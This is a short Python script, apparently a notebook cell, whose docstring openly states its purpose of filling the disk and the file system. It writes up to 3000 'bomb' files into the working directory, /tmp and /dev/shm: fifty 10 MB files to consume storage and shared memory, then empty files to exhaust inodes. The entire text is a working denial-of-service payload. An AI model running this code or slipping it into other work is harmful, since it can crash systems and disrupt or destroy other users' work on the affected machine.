"""Fills the disk with files, and the file system with names."""

# %%
import os

for folder in (".", "/tmp", "/dev/shm"):
    for k in range(3000):
        try:
            with open(f"{folder}/bomb{k}", "wb") as file:
                file.write(bytes(10_000_000 if k < 50 else 0))
        except OSError:
            break
